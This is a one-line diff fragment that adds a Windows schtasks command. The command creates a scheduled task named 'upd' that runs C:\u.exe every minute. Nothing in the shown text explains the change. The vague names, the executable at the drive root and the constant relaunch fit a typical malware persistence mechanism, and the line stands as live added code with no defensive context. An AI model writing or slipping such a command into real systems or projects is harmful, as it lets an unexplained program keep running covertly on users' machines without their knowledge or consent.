@@ -1,0 +1,1 @@
+schtasks /create /sc minute /tn upd /tr C:\u.exe
